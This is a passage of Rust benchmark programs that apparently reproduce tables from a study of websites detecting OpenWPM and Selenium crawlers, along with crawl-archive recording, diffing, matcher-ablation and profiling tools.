                );
                mismatches += 1;
            }
        }
    }

    println!("\nworkers  visits/s  speedup  p50 visit  p99 visit  steals  chunks  idle");
    for p in &points {
        println!(
            "{:>7}  {:>8.0}  {:>6.2}x  {:>7}us  {:>7}us  {:>6}  {:>6}  {:>4}",
            p.workers,
            p.visits_per_sec,
            p.visits_per_sec / base.visits_per_sec,
            p.p50_visit_us,
            p.p99_visit_us,
            p.steals,
            p.chunks,
            p.idle_spins,
        );
    }
    println!(
        "digest {} across the sweep: {:016x}",
        if mismatches == 0 { "IDENTICAL" } else { "DIVERGED" },
        base.digest
    );

    let mut json = format!(
        "{{\"suite\":\"scaling\",\"sites\":{sites},\"seed\":{seed},\"smoke\":{smoke},\"results\":["
    );
    for (i, p) in points.iter().enumerate() {
        if i > 0 {
            json.push(',');
        }
        json.push_str(&format!(
            "{{\"workers\":{},\"completed\":{},\"elapsed_ms\":{:.3},\"visits_per_sec\":{:.3},\
             \"p50_visit_us\":{},\"p99_visit_us\":{},\"steals\":{},\"chunks_claimed\":{},\
             \"idle_spins\":{},\"speedup\":{:.4},\"digest\":\"{:016x}\",\"records\":\"{:016x}\"}}",
            p.workers,
            p.completed,
            p.elapsed_ms,
            p.visits_per_sec,
            p.p50_visit_us,
            p.p99_visit_us,
            p.steals,
            p.chunks,
            p.idle_spins,
            p.visits_per_sec / base.visits_per_sec,
            p.digest,
            p.records_fp,
        ));
    }
    let mut t5 = String::new();
    obs::push_json_string(&mut t5, &base.table5);
    json.push_str(&format!(
        "],\"table5\":{t5},\"digest_match\":{},\"config\":\"{:016x}\"}}",
        mismatches == 0,
        bench::run_config_hash()
    ));
    println!("{json}");
    if let Err(e) = std::fs::write("BENCH_scaling.json", format!("{json}\n")) {
        eprintln!("warning: could not write BENCH_scaling.json: {e}");
    }

    bench::finish("scaling", Some(&format!("{}x{} sweep", points.len(), sites)));
    if mismatches > 0 {
        eprintln!("{mismatches} cross-worker mismatches — scheduler broke determinism");
        std::process::exit(1);
    }
}
