//! Table 12 / Appx. A — first-party detector origin clusters.

#![deny(deprecated)]

use gullible::report::{thousands, TextTable};
use gullible::Scan;

fn main() {
    bench::banner("Table 12: first-party detector attribution");
    let report = Scan::new(bench::scan_config()).run().expect("scan");
    let t12 = report.table12();
    let mut table = TextTable::new("Table 12 — first-party detector origins by URL pattern");
    table.header(&["origin", "sites", "paper @100K"]);
    let paper: &[(&str, u32)] = &[
        ("Akamai", 1004),
        ("Incapsula", 998),
        ("Unknown", 659),
        ("Cloudflare", 486),
        ("PerimeterX", 134),
        ("SelfBuilt", 586),
    ];
    let mut rows: Vec<(&str, u32)> = t12.iter().map(|(k, v)| (*k, *v)).collect();
    rows.sort_by_key(|r| std::cmp::Reverse(r.1));
    for (origin, count) in rows {
        let target = paper.iter().find(|(o, _)| *o == origin).map(|(_, c)| *c).unwrap_or(0);
        table.row(&[
            origin.to_string(),
            thousands(count as u64),
            format!("{} (scaled ≈ {})", target, bench::scale_target(target as u64)),
        ]);
    }
    println!("{}", table.render());
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("table12", Some(&report.coverage_line()));
}
