//! Table 10 — served cookies and tracking cookies, WPM vs WPM_hide.

#![deny(deprecated)]

use gullible::report::{thousands, TextTable};
use gullible::{run_compare, Client};
use netsim::CookieParty;
use stats::descriptive::{fmt_pct, pct_change};

fn main() {
    bench::banner("Table 10: cookies, WPM vs WPM_hide");
    let report = run_compare(bench::compare_config());
    let mut table = TextTable::new("Table 10 — cookies per run");
    table.header(&[
        "run",
        "1st-party WPM",
        "diff",
        "3rd-party WPM",
        "diff",
        "tracking WPM",
        "diff",
    ]);
    for i in 0..report.runs.len() {
        let (wpm, hide) = &report.runs[i];
        let w1 = wpm.cookies_of(CookieParty::First);
        let h1 = hide.cookies_of(CookieParty::First);
        let w3 = wpm.cookies_of(CookieParty::Third);
        let h3 = hide.cookies_of(CookieParty::Third);
        let wt = report.tracking_cookies(Client::Wpm, i);
        let ht = report.tracking_cookies(Client::WpmHide, i);
        table.row(&[
            format!("r{}", i + 1),
            thousands(w1),
            fmt_pct(pct_change(w1 as f64, h1 as f64)),
            thousands(w3),
            fmt_pct(pct_change(w3 as f64, h3 as f64)),
            thousands(wt),
            fmt_pct(pct_change(wt as f64, ht as f64)),
        ]);
    }
    println!("{}", table.render());
    for i in 0..report.runs.len() {
        if let Some(w) = report.wilcoxon_cookies(i) {
            println!(
                "r{}: per-site cookie counts Wilcoxon z = {:.2}, p = {:.2e}",
                i + 1,
                w.z,
                w.p_value
            );
        }
    }
    println!(
        "paper diffs: 1st +3.33/+3.06/+4.23%; 3rd +5.05/+7.12/+8.11%; tracking \
         +41.70/+52.13/+59.65%"
    );
    bench::finish("table10", None);
}
