//! Table 11 — studies measuring webdriver-property access on front pages.

#![deny(deprecated)]

use gullible::report::{pct, thousands, TextTable};
use gullible::Scan;

fn main() {
    bench::banner("Table 11: webdriver probing on front pages vs prior work");
    let report = Scan::new(bench::scan_config()).run().expect("scan");
    let front_static = report.count(|s| s.front.static_true);
    let front_dynamic = report.count(|s| s.front.dynamic_true);
    let front_union = report.count(|s| s.front.union_true());
    let n = report.n_sites as u64;
    let mut table = TextTable::new("Table 11 — front-page webdriver detectors across studies");
    table.header(&["study", "when", "analysis", "corpus", "# sites", "%"]);
    table.row_str(&["Jueckstock & Kapravelos [46]", "2019-10", "dynamic", "Alexa 50K", "2,756", "5.51%"]);
    table.row_str(&["Krumnow et al. (the paper)", "2020-07", "combined", "Tranco 100K", "13,989", "13.99%"]);
    table.row_str(&["  — static", "", "static", "", "11,957", "11.96%"]);
    table.row_str(&["  — dynamic", "", "dynamic", "", "12,194", "12.19%"]);
    table.row(&[
        "this reproduction".into(),
        "now".into(),
        "combined".into(),
        format!("synthetic {}", thousands(n)),
        thousands(front_union as u64),
        pct(front_union as u64, n),
    ]);
    table.row(&[
        "  — static".into(),
        "".into(),
        "static".into(),
        "".into(),
        thousands(front_static as u64),
        pct(front_static as u64, n),
    ]);
    table.row(&[
        "  — dynamic".into(),
        "".into(),
        "dynamic".into(),
        "".into(),
        thousands(front_dynamic as u64),
        pct(front_dynamic as u64, n),
    ]);
    println!("{}", table.render());
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("table11", Some(&report.coverage_line()));
}
