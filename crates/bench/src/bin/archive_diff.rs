//! Diff two crawl bundles site-by-site (paper Sec. 6.3: compare a WPM run
//! against a WPM_hide run — or any two recorded crawls — from their
//! archives, without re-crawling).
//!
//! Usage: `archive_diff BUNDLE_A BUNDLE_B [--expect-zero]`. With
//! `--expect-zero` the binary exits non-zero if any site differs (CI gate
//! for same-seed reproducibility).

#![deny(deprecated)]

use gullible::{diff_bundles, ReplayBundle};

fn main() {
    bench::banner("Archive: diff crawl bundles");
    let args = bench::env::positional_args();
    let [dir_a, dir_b] = args.as_slice() else {
        eprintln!("usage: archive_diff BUNDLE_A BUNDLE_B [--expect-zero]");
        std::process::exit(2);
    };
    let open = |d: &str| match ReplayBundle::open(d) {
        Ok(b) => b,
        Err(e) => {
            eprintln!("error: cannot open bundle {d}: {e}");
            std::process::exit(2);
        }
    };
    let (a, b) = (open(dir_a), open(dir_b));
    let diff = diff_bundles(&a, &b);

    for (name, c) in [(dir_a.as_str(), &diff.a_commit), (dir_b.as_str(), &diff.b_commit)] {
        println!(
            "{name}: {} ok / {} failed / {} interrupted, table5 union {}/{}, records {:016x}",
            c.completed, c.failed, c.interrupted, c.table5[2].0, c.table5[2].1, c.records_digest
        );
    }
    if diff.config_differs {
        println!("configs differ (ablation diff — expected for WPM vs WPM_hide-style runs)");
    }
    let (ra, rb) = gullible::BundleDiff::record_totals(&a, &b);
    println!("records captured: {ra} vs {rb}");

    const SHOW: usize = 20;
    for d in diff.deltas.iter().take(SHOW) {
        println!("  site {:>6} {}: {}", d.rank, d.domain, d.changes.join("; "));
    }
    if diff.deltas.len() > SHOW {
        println!("  … and {} more differing sites (showing first {SHOW})", diff.deltas.len() - SHOW);
    }
    println!(
        "diff verdict: {} ({} differing sites)",
        if diff.is_clean() { "IDENTICAL" } else { "DIFFERENT" },
        diff.deltas.len()
    );
    bench::finish("archive_diff", None);
    if std::env::args().any(|arg| arg == "--expect-zero") && !diff.is_clean() {
        eprintln!("error: --expect-zero but bundles differ");
        std::process::exit(1);
    }
}
