//! Table 6 — sites with scripts probing OpenWPM-specific properties.

#![deny(deprecated)]

use gullible::report::TextTable;
use gullible::Scan;

fn main() {
    bench::banner("Table 6: OpenWPM-specific detectors per provider");
    let report = Scan::new(bench::scan_config()).run().expect("scan");
    let t6 = report.table6();
    let mut table = TextTable::new("Table 6 — OpenWPM-specific probes by provider");
    table.header(&["provider", "sites", "per property", "paper @100K"]);
    let paper: &[(&str, &str)] = &[
        ("cheqzone.com", "331 (jsInstruments)"),
        ("googlesyndication.com", "14"),
        ("google.com", "9"),
        ("adzouk1tag.com", "2"),
    ];
    for (provider, props) in &t6 {
        let sites: u32 = *props.values().max().unwrap_or(&0);
        let breakdown = props
            .iter()
            .map(|(p, n)| format!("{p}={n}"))
            .collect::<Vec<_>>()
            .join(", ");
        let target = paper
            .iter()
            .find(|(d, _)| d == provider)
            .map(|(_, t)| *t)
            .unwrap_or("-");
        table.row(&[provider.clone(), sites.to_string(), breakdown, target.to_string()]);
    }
    println!("{}", table.render());
    let total: u32 = t6
        .values()
        .map(|props| *props.values().max().unwrap_or(&0))
        .sum();
    println!(
        "total sites probing OpenWPM-specific properties: {total} (paper: 356 at 100K, scaled \
         target ≈ {})",
        bench::scale_target(356)
    );
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("table06", Some(&report.coverage_line()));
}
