//! Static-matcher ablation: the same measurement under the naive
//! per-pattern oracle and the compiled multi-pattern automaton, proving
//! (a) the automaton is observably identical — per-site records, crawl
//! history, Table 5, Table 11's front-page counts, Table 13's precision
//! rows and the telemetry digest are byte-for-byte the same — and (b) it
//! pays for itself (≥ 5× match throughput on the near-miss-dense hot
//! workload).
//!
//! ```text
//! cargo run --release -p bench --bin ablation_matcher             # full run
//! cargo run --release -p bench --bin ablation_matcher -- --smoke  # CI gate
//! ```
//!
//! Output: the human comparison plus `BENCH_matcher.json`. Exits non-zero
//! if the engines disagree on any artifact or (full mode) the speedup
//! target is missed, so CI can gate on it.

#![deny(deprecated)]

use detect::corpus::{self, Technique};
use detect::static_analysis::{pattern_matches_with, preprocess, StaticPattern};
use detect::{match_preprocessed, MatcherKind};
use gullible::obs;
use gullible::{Scan, ScanConfig};

fn smoke_mode() -> bool {
    std::env::args().any(|a| a == "--smoke")
}

fn scan_cfg() -> ScanConfig {
    let cap = if smoke_mode() { 300 } else { 5_000 };
    let n = bench::n_sites().min(cap);
    let mut cfg = ScanConfig::new(n, bench::seed());
    cfg.workers = bench::workers();
    cfg.faults = bench::env::fault_plan();
    cfg
}

/// One differential leg: a full fixed-seed scan with `kind` as the default
/// match engine, returning the report and the deterministic telemetry
/// digest. The verdict memo is cleared so this leg actually exercises its
/// engine instead of replaying the previous leg's cached verdicts.
fn scan_leg(kind: MatcherKind) -> (gullible::ScanReport, u64) {
    obs::reset();
    // `reset` clears the stats flag; re-arm it so both legs actually
    // record the metrics whose digest we compare.
    obs::set_stats(true);
    jsengine::cache().clear();
    detect::clear_verdict_memo();
    detect::set_default_matcher(kind);
    let report = Scan::new(scan_cfg()).run().expect("scan without checkpoint cannot fail");
    let digest = obs::registry().snapshot().digest();
    (report, digest)
}

/// The Table 13 evaluation corpus (mirrors `bin/table13`): true detectors
/// in every statically-visible tier plus a benign 'webdriver' mention.
fn table13_corpus() -> (Vec<String>, Vec<String>) {
    let detectors = vec![
        corpus::selenium_detector(Technique::Plain, "https://bd.test/v"),
        corpus::selenium_detector(Technique::Indexed, "https://bd.test/v"),
        corpus::selenium_detector(Technique::HexEscaped, "https://bd.test/v"),
        corpus::openwpm_detector(&["jsInstruments"], Technique::Plain, "https://cheqzone.com/v"),
        corpus::openwpm_detector(
            &["getInstrumentJS", "instrumentFingerprintingApis"],
            Technique::Plain,
            "https://x.test/v",
        ),
    ];
    let benign = vec![corpus::benign_webdriver_mention()];
    (detectors, benign)
}

/// Table 13 rows (detector hits, benign FPs per pattern) under one engine.
fn table13_rows(kind: MatcherKind) -> Vec<(&'static str, usize, usize)> {
    let (detectors, benign) = table13_corpus();
    StaticPattern::all()
        .iter()
        .map(|pat| {
            let hits =
                detectors.iter().filter(|s| pattern_matches_with(kind, *pat, &preprocess(s))).count();
            let fps =
                benign.iter().filter(|s| pattern_matches_with(kind, *pat, &preprocess(s))).count();
            (pat.name(), hits, fps)
        })
        .collect()
}

/// The hot-matching workload: near-miss-dense benign scripts. Every
/// fragment keeps a pattern literal's shape but replaces its `r`s with
/// other bytes from the literal's own alphabet. That defeats substring
/// search's byte-set skip heuristic (skip a whole window when the
/// trailing byte can't occur in the needle), so the naive engine pays
/// per-position comparison work on every pass — while the automaton's
/// required-byte prefilter (every production literal contains an `r`)
/// skips the whole script at word-at-a-time speed. The mix is weighted
/// toward the instrument-probe literals: their first/last bytes recur at
/// needle-length distances in the fragments, so substring search's
/// two-byte candidate filter fires and forces a verification at every
/// fragment. No fragment contains an actual match — like almost every
/// script of a real crawl — and no concatenation of fragments can form
/// one (the timed loop asserts benignity on every verdict).
fn hot_corpus() -> Vec<String> {
    const NEAR_MISSES: &[&str] = &[
        "getInstuumentJS",
        "instpumentFingepppintingApis",
        "jsInsttuments",
        "getInstuumentJS",
        "instpumentFingepppintingApis",
        "jsInsttuments",
        "navigatob.webdive",
        "webdiveb",
    ];
    // Deterministic fragment interleaving (no RNG available or needed).
    (0..8)
        .map(|script| {
            let mut body = String::with_capacity(68 * 1024);
            let mut pick = script * 5 + 1;
            while body.len() < 64 * 1024 {
                pick = (pick * 131 + 17) % NEAR_MISSES.len();
                body.push_str(NEAR_MISSES[pick]);
            }
            body
        })
        .collect()
}

/// Match throughput in bytes/sec over the preprocessed hot corpus under
/// one engine — matching only; preprocessing is engine-independent and
/// happens outside the timed region.
fn throughput(kind: MatcherKind, pre: &[String], iters: u32) -> (f64, f64) {
    let bytes_per_iter: u64 = pre.iter().map(|p| p.len() as u64).sum();
    // Warm-up (also forces the automaton build outside the timed region).
    for p in pre {
        let _ = match_preprocessed(kind, p);
    }
    let t0 = std::time::Instant::now();
    for _ in 0..iters {
        for p in pre {
            let v = match_preprocessed(kind, p);
            assert!(!v.finding.is_detector() && !v.naive_webdriver, "hot corpus must be benign");
        }
    }
    let wall = t0.elapsed().as_secs_f64();
    (bytes_per_iter as f64 * iters as f64 / wall, wall)
}

fn main() {
    bench::banner("ablation: static-pattern match engine (naive oracle vs compiled automaton)");

    // Warm-up scan: fills the webgen materialisation memo and other lazy
    // one-off state shared by both legs.
    let _ = Scan::new(scan_cfg()).run();

    // --- differential gate: full scan --------------------------------------
    let (naive_report, naive_digest) = scan_leg(MatcherKind::Naive);
    let (auto_report, auto_digest) = scan_leg(MatcherKind::Automaton);
    detect::clear_verdict_memo();

    let mut ok = true;
    if naive_report.sites != auto_report.sites
        || naive_report.history != auto_report.history
        || naive_report.table5() != auto_report.table5()
    {
        println!("FAIL: scan results differ between match engines");
        ok = false;
    }
    let front_counts = |r: &gullible::ScanReport| {
        (
            r.count(|s| s.front.static_true),
            r.count(|s| s.front.dynamic_true),
            r.count(|s| s.front.union_true()),
        )
    };
    if front_counts(&naive_report) != front_counts(&auto_report) {
        println!("FAIL: Table 11 front-page counts differ between match engines");
        ok = false;
    }
    if naive_digest != auto_digest {
        println!("FAIL: telemetry digest differs: {naive_digest:016x} vs {auto_digest:016x}");
        ok = false;
    }
    if ok {
        println!(
            "differential gate: {} sites byte-identical, digest {auto_digest:016x}",
            auto_report.sites.len()
        );
    }

    // --- differential gate: Table 13 precision rows -------------------------
    let naive_rows = table13_rows(MatcherKind::Naive);
    let auto_rows = table13_rows(MatcherKind::Automaton);
    if naive_rows != auto_rows {
        println!("FAIL: Table 13 rows differ between match engines");
        println!("  naive:     {naive_rows:?}");
        println!("  automaton: {auto_rows:?}");
        ok = false;
    } else {
        println!("Table 13 gate: {} pattern rows identical", naive_rows.len());
    }

    // --- throughput ---------------------------------------------------------
    let pre: Vec<String> = hot_corpus().iter().map(|s| preprocess(s)).collect();
    // Verdict parity on the exact timed corpus first.
    for p in &pre {
        assert_eq!(
            match_preprocessed(MatcherKind::Naive, p),
            match_preprocessed(MatcherKind::Automaton, p),
            "hot-corpus verdicts must agree"
        );
    }
    let iters = if smoke_mode() { 100 } else { 600 };
    let (naive_bps, naive_wall) = throughput(MatcherKind::Naive, &pre, iters);
    let (auto_bps, auto_wall) = throughput(MatcherKind::Automaton, &pre, iters);
    let speedup = auto_bps / naive_bps;
    let total_kib = pre.iter().map(String::len).sum::<usize>() / 1024;
    println!("match throughput ({iters} iters over {total_kib} KiB of near-miss scripts):");
    println!("  naive oracle: {:>10.1} MB/s ({naive_wall:.2}s)", naive_bps / 1e6);
    println!("  automaton:    {:>10.1} MB/s ({auto_wall:.2}s)", auto_bps / 1e6);
    println!("  speedup:      {speedup:>10.2}x (target >= 5.00x)");
    if speedup < 5.0 {
        if smoke_mode() {
            // Smoke runs share CI machines; the digest gate is the hard
            // check there, throughput is informational.
            println!("note: speedup below 5.0x in smoke mode (not enforced)");
        } else {
            println!("FAIL: speedup below 5.0x");
            ok = false;
        }
    }

    // --- artifact ----------------------------------------------------------
    let json = format!(
        "{{\"suite\":\"matcher_ablation\",\"sites\":{},\"iters\":{iters},\
         \"naive_bytes_per_sec\":{naive_bps:.0},\"automaton_bytes_per_sec\":{auto_bps:.0},\
         \"speedup\":{speedup:.2},\"digest\":\"{auto_digest:016x}\",\
         \"digests_equal\":{}}}",
        auto_report.sites.len(),
        naive_digest == auto_digest,
    );
    if let Err(e) = std::fs::write("BENCH_matcher.json", format!("{json}\n")) {
        eprintln!("warning: could not write BENCH_matcher.json: {e}");
    }
    println!("wrote BENCH_matcher.json");

    bench::finish("ablation_matcher", Some(&auto_report.coverage_line()));
    if !ok {
        std::process::exit(1);
    }
}
