//! Table 8 — comparison of HTTP request resource types, WPM vs WPM_hide.

#![deny(deprecated)]

use gullible::report::{thousands, TextTable};
use gullible::run_compare;
use netsim::ResourceType;
use stats::descriptive::{fmt_pct, pct_change};

fn main() {
    bench::banner("Table 8: HTTP resource types, WPM vs WPM_hide (3 runs)");
    let report = run_compare(bench::compare_config());
    let (wpm1, hide1) = &report.runs[0];
    let mut table = TextTable::new("Table 8 — requests by resource type");
    table.header(&["resource type", "WPM (r1)", "WPM_hide (r1)", "Diff r1", "Diff r2", "Diff r3"]);
    let mut rows: Vec<(ResourceType, u64, u64)> = ResourceType::all()
        .iter()
        .map(|rt| (*rt, wpm1.requests_of(*rt), hide1.requests_of(*rt)))
        .collect();
    rows.sort_by(|a, b| {
        let da = pct_change(a.1 as f64, a.2 as f64).abs();
        let db = pct_change(b.1 as f64, b.2 as f64).abs();
        db.partial_cmp(&da).unwrap()
    });
    for (rt, w1, h1) in rows {
        if w1 == 0 && h1 == 0 {
            continue;
        }
        let mut cols = vec![rt.as_str().to_string(), thousands(w1), thousands(h1)];
        for run in 0..report.runs.len() {
            let (w, h) = &report.runs[run];
            cols.push(fmt_pct(pct_change(w.requests_of(rt) as f64, h.requests_of(rt) as f64)));
        }
        table.row(&cols);
    }
    let mut totals = vec![
        "Total".to_string(),
        thousands(wpm1.total_requests()),
        thousands(hide1.total_requests()),
    ];
    for run in 0..report.runs.len() {
        let (w, h) = &report.runs[run];
        totals.push(fmt_pct(pct_change(w.total_requests() as f64, h.total_requests() as f64)));
    }
    table.row(&totals);
    println!("{}", table.render());
    println!(
        "csp_report: WPM {} vs WPM_hide {} (paper: 784 vs 188, −76%); WPM failed to install \
         hooks on {} of {} sites (paper: up to 113 of 1,487)",
        wpm1.requests_of(ResourceType::CspReport),
        hide1.requests_of(ResourceType::CspReport),
        wpm1.blocked_sites(),
        report.compare_set.len()
    );
    println!("paper totals r1..r3: +1.91% / +3.37% / +5.32%");
    bench::finish("table08", None);
}
