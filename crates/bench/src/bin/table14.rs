//! Table 14 / Appx. C — Firefox-release lag of OpenWPM.

#![deny(deprecated)]

use gullible::literature::{days_from_civil, firefox_lag, FIREFOX_TIMELINE};
use gullible::report::TextTable;

fn main() {
    bench::banner("Table 14: migration to newer Firefox releases");
    let mut table = TextTable::new("Table 14 — Firefox / OpenWPM release timeline");
    table.header(&["Firefox", "release date", "OpenWPM", "integration date"]);
    for r in FIREFOX_TIMELINE {
        table.row(&[
            r.firefox.to_string(),
            format!("{:04}-{:02}-{:02}", r.ff_date.0, r.ff_date.1, r.ff_date.2),
            r.openwpm.unwrap_or("-").to_string(),
            r.integration_date
                .map(|(y, m, d)| format!("{y:04}-{m:02}-{d:02}"))
                .unwrap_or_else(|| "-".to_string()),
        ]);
    }
    println!("{}", table.render());
    let lag = firefox_lag();
    println!(
        "window: {} days (paper: 780); OpenWPM shipped an outdated Firefox on {} days = {:.0}% \
         (paper: 540 days = 69%)",
        lag.window_days,
        lag.outdated_days,
        lag.outdated_fraction() * 100.0
    );
    let _ = days_from_civil(2022, 7, 23);
    bench::finish("table14", None);
}
