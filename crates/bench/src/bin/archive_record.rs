//! Record a scan into a content-addressed crawl bundle (Sec. 6.3 tooling:
//! pin a measurement run to disk so it can be re-measured and diffed).
//!
//! Usage: `archive_record [BUNDLE_DIR]` — the directory also comes from
//! `GULLIBLE_BUNDLE`; scale/seed/faults from the usual `GULLIBLE_*` knobs.

#![deny(deprecated)]

use gullible::report::thousands;
use gullible::Scan;

fn main() {
    bench::banner("Archive: record crawl bundle");
    let dir = bench::bundle_dir();
    let report = match Scan::new(bench::scan_config()).record(&dir).run() {
        Ok(r) => r,
        Err(e) => {
            eprintln!("error: recording failed: {e}");
            std::process::exit(2);
        }
    };
    let stats = report.archive.expect("recording run reports archive stats");
    let [(si, st), (di, dt), (ui, ut)] = report.table5();
    println!("table5: static {si}/{st}, dynamic {di}/{dt}, union {ui}/{ut}");
    println!(
        "archive: {} sites, {} unique blobs ({} B), {} dedup hits",
        thousands(stats.sites),
        thousands(stats.blobs_written),
        thousands(stats.blob_bytes),
        thousands(stats.dedup_hits),
    );
    println!("bundle: {}", dir.display());
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("archive_record", Some(&report.coverage_line()));
}
