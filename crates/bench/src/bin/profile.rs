//! `profile`: the crawl health report.
//!
//! Sweeps one fixed-seed streaming scan twice — profiler off (baseline),
//! then profiler on in collapsed mode with the flight recorder armed — and
//! proves the profiler is *digest-invisible*: per-site records, telemetry
//! digest, Table 5 and the fault history must be byte-identical between the
//! two runs. It then attributes the profiled run's visit wall clock to the
//! fixed phase tree (webgen materialise → compile cache → jsengine interp →
//! detect → archive encode/flush), checks the self times partition the
//! visit total, and reports slowest-visit forensics plus cache/steal/flush
//! effort counters.
//!
//! Output: a human phase table plus `BENCH_profile.json` and the forensic
//! dumps in `BENCH_profile_forensics.jsonl`. Exits non-zero if the
//! profiler perturbs any digest, the phase shares do not sum to the visit
//! total, or a forensic dump fails schema validation.
//!
//! ```text
//! cargo run --release -p bench --bin profile            # 5K sites
//! cargo run --release -p bench --bin profile -- --smoke # 200 sites (CI)
//! ```

#![deny(deprecated)]

use std::path::{Path, PathBuf};

use gullible::obs;
use gullible::scan::{Scan, ScanConfig};
use gullible::ReplayBundle;

fn profile_cfg(sites: u32, seed: u64, workers: usize) -> ScanConfig {
    let mut cfg = ScanConfig::new(sites, seed);
    cfg.workers = workers;
    cfg
}

fn tmp_dir(name: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("gullible-profile-bench-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Everything a run must reproduce bit-for-bit regardless of profiling.
struct Fingerprint {
    records_digest: u64,
    telemetry_digest: u64,
    table5: String,
    history_fp: u64,
}

fn fingerprint_of(report: &gullible::ScanReport, dir: &Path) -> Fingerprint {
    let bundle = ReplayBundle::open(dir).expect("sealed stream bundle");
    Fingerprint {
        records_digest: bundle.commit.records_digest,
        telemetry_digest: bundle.commit.telemetry_digest,
        table5: format!("{:?}", report.table5()),
        history_fp: obs::fnv1a(format!("{:?}", report.history).as_bytes()),
    }
}

struct PhaseRow {
    name: &'static str,
    n: u64,
    p50_us: u64,
    p99_us: u64,
    self_us: u64,
    share_pct: f64,
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let smoke = args.iter().any(|a| a == "--smoke");
    let sites: u32 = if smoke {
        200
    } else {
        std::env::var("GULLIBLE_SITES").ok().and_then(|v| v.parse().ok()).unwrap_or(5_000)
    };
    let seed = bench::seed();
    let workers = bench::workers();

    bench::banner(&format!(
        "profile: crawl health report, {sites} sites{}",
        if smoke { " (smoke)" } else { "" }
    ));
    let mut failures: Vec<String> = Vec::new();

    // ------------------------------------------------ run A: baseline, prof off
    let dir_a = tmp_dir("baseline");
    obs::reset();
    obs::set_stats(true);
    let t0 = std::time::Instant::now();
    let report_a =
        Scan::new(profile_cfg(sites, seed, workers)).stream_to(&dir_a).run().expect("baseline scan");
    let baseline_ms = t0.elapsed().as_secs_f64() * 1e3;
    let fp_a = fingerprint_of(&report_a, &dir_a);
    let snap_a = obs::registry().snapshot();
    // Slow-visit threshold for the profiled run: the baseline's p99 visit
    // wall time, so roughly the slowest 1% of visits leave forensics.
    let slow_us = snap_a
        .histograms
        .get("sched.visit_wall_us")
        .map(|h| h.quantile(0.99))
        .unwrap_or(0)
        .max(1);
    println!("baseline:  {sites} sites in {baseline_ms:.1} ms (profiler off)");

    // ------------------------------------- run B: profiled + flight recorder
    let forensics = PathBuf::from("BENCH_profile_forensics.jsonl");
    let _ = std::fs::remove_file(&forensics);
    let dir_b = tmp_dir("profiled");
    obs::reset();
    obs::set_stats(true);
    obs::prof::set_mode(obs::prof::Mode::Collapsed);
    obs::prof::set_slow_visit_us(slow_us);
    obs::prof::set_forensic_path(Some(&forensics)).expect("open forensic sink");
    let t0 = std::time::Instant::now();
    let report_b =
        Scan::new(profile_cfg(sites, seed, workers)).stream_to(&dir_b).run().expect("profiled scan");
    let profiled_ms = t0.elapsed().as_secs_f64() * 1e3;
    let fp_b = fingerprint_of(&report_b, &dir_b);
    let snap = obs::registry().snapshot();
    let overhead_pct = (profiled_ms / baseline_ms - 1.0) * 100.0;
    println!("profiled:  {sites} sites in {profiled_ms:.1} ms (collapsed mode, recorder armed, {overhead_pct:+.1}% wall)");

    // ---------------------------------------------- profiler invisibility
    for (what, a, b) in [
        ("records digest", fp_a.records_digest, fp_b.records_digest),
        ("telemetry digest", fp_a.telemetry_digest, fp_b.telemetry_digest),
        ("history", fp_a.history_fp, fp_b.history_fp),
    ] {
        if a != b {
            failures.push(format!("profiler perturbed the {what}: {a:016x} vs {b:016x}"));
        }
    }
    if fp_a.table5 != fp_b.table5 {
        failures.push(format!("profiler perturbed Table 5: {} vs {}", fp_a.table5, fp_b.table5));
    }
    let invisible = failures.is_empty();
    println!(
        "profiler is {} (records {:016x}, telemetry {:016x})\n",
        if invisible { "DIGEST-INVISIBLE" } else { "VISIBLE IN DIGESTS" },
        fp_b.records_digest,
        fp_b.telemetry_digest,
    );

    // --------------------------------------------------------- phase shares
    let visit_total =
        snap.histograms.get(obs::prof::VISIT.hist_name()).map(|h| h.sum).unwrap_or(0);
    let mut rows: Vec<PhaseRow> = Vec::new();
    let mut self_sum = 0u64;
    let mut visit_subtree: Vec<&obs::prof::PhaseDef> = vec![&obs::prof::VISIT];
    visit_subtree.extend_from_slice(obs::prof::VISIT_PHASES);
    for phase in visit_subtree {
        let self_us = snap.counter(phase.self_counter());
        self_sum += self_us;
        let (n, p50_us, p99_us) = snap
            .histograms
            .get(phase.hist_name())
            .map(|h| (h.count, h.quantile(0.50), h.quantile(0.99)))
            .unwrap_or_default();
        rows.push(PhaseRow {
            name: phase.name,
            n,
            p50_us,
            p99_us,
            self_us,
            share_pct: if visit_total > 0 {
                self_us as f64 * 100.0 / visit_total as f64
            } else {
                0.0
            },
        });
    }
    let share_sum: f64 = rows.iter().map(|r| r.share_pct).sum();
    if visit_total == 0 {
        failures.push("no visit phase samples were recorded".into());
    } else if !(99.0..=101.0).contains(&share_sum) {
        failures.push(format!(
            "phase shares must partition the visit wall clock: sum {share_sum:.2}% \
             (self {self_sum} µs vs visit total {visit_total} µs)"
        ));
    }
    println!("phase                       n  p50(µs)  p99(µs)    self(µs)  share");
    for r in &rows {
        println!(
            "{:<22} {:>6}  {:>7}  {:>7}  {:>10}  {:>5.1}%",
            r.name, r.n, r.p50_us, r.p99_us, r.self_us, r.share_pct
        );
    }
    println!("{:<22} {:>45.1}% (must be ~100%)", "sum", share_sum);

    // Scheduler coverage: the visit phase should account for nearly all of
    // the scheduler's measured per-item wall time.
    let sched_total = snap.histograms.get("sched.visit_wall_us").map(|h| h.sum).unwrap_or(0);
    let coverage =
        if sched_total > 0 { visit_total as f64 / sched_total as f64 } else { 0.0 };
    if !(0.90..=1.02).contains(&coverage) {
        failures.push(format!(
            "visit phase covers {:.1}% of scheduler wall time (expected 90–102%)",
            coverage * 100.0
        ));
    }
    println!(
        "\nvisit phase covers {:.1}% of scheduler per-item wall time ({visit_total} / {sched_total} µs)",
        coverage * 100.0
    );

    // ------------------------------------------------- slowest-visit forensics
    let forensic_text = std::fs::read_to_string(&forensics).unwrap_or_default();
    let summary = match obs::validate::validate_forensic(&forensic_text) {
        Ok(s) => s,
        Err(e) => {
            failures.push(format!("forensic dump failed validation: {e}"));
            obs::validate::ForensicSummary::default()
        }
    };
    let slow_dumps = summary.triggers.iter().filter(|(t, _)| t == "slow_visit").count();
    println!(
